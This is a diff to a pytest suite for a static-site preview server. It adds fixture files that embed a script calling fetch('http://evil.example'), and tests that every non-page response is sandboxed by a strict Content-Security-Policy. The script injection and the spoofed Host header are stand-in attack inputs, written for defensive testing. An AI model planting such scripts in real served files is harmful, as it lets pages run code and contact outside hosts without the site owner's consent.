@@ -174,6 +174,11 @@ def preview(start_preview: Callable[..., Preview], tiny_site: Callable[[], Path]
     (site / "content/articles/hidden.md").write_text(draft)
     pictured = STORY.format(title="Pictured", slug="pictured", body="![A](picture.svg)")
     (site / "content/articles/pictured.md").write_text(pictured)
+    script = "<script xmlns='http://www.w3.org/1999/xhtml'>fetch('http://evil.example')</script>"
+    for kind in ("svg", "html", "xhtml", "xml", "unknown"):
+        (site / f"static/active.{kind}").write_text(f"<svg>{script}</svg>")
+    (site / "static/folder").mkdir()
+    (site / "static/folder/index.html").write_text(f"<html>{script}</html>")
     (site / "static/inner").mkdir()
     (site / "static/inner/secret.txt").write_text("harmless")
     return start_preview(site, "--no-drafts")
@@ -368,8 +373,35 @@ def test_every_answer_is_for_our_own_pages_only(preview: Preview, path: str, ori
         head = get(preview, path, header, method=method).partition(b"\r\n\r\n")[0].lower()
         assert b"\r\ncross-origin-resource-policy: same-origin" in head
         assert b"\r\nx-frame-options: sameorigin" in head
+        assert head.count(b"\r\ncontent-security-policy: ") == 1
         assert b"access-control-" not in head
         assert b"\r\nserver:" not in head
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        *("/plain.css", "/active.svg", "/active.html", "/active.xhtml", "/active.xml", "/folder/"),
+        *("/active.unknown", "/feed.xml", "/feed.json", "/robots.txt", "/tags", "/%00", EVENTS),
+        "/_broadsheet/preview.js",
+    ],
+)
+@pytest.mark.parametrize("header", ["Accept: */*", "Range: bytes=1-9", "Host: evil.example"])
+def test_what_is_no_page_runs_nothing_and_reaches_nobody(
+    preview: Preview, path: str, header: str
+) -> None:
+    head = get(preview, path, header).partition(b"\r\n\r\n")[0].lower()
+    (policy,) = re.findall(rb"\r\ncontent-security-policy: ([^\r]*)", head)
+    assert policy.startswith(b"default-src 'none';")
+    assert policy.endswith(b"; sandbox")
+    assert b"script-src" not in policy
+    assert b"http" not in policy
+
+
+def test_a_page_of_our_own_runs_the_bar_and_no_more(preview: Preview) -> None:
+    head = get(preview, "/nothing-here/").partition(b"\r\n\r\n")[0].lower()
+    (policy,) = re.findall(rb"\r\ncontent-security-policy: ([^\r]*)", head)
+    assert b"script-src http://127.0.0.1:%d/_broadsheet/preview.js" % preview.port in policy
 
 
 def test_word_that_nothing_changed_is_for_our_own_pages_only(preview: Preview) -> None:
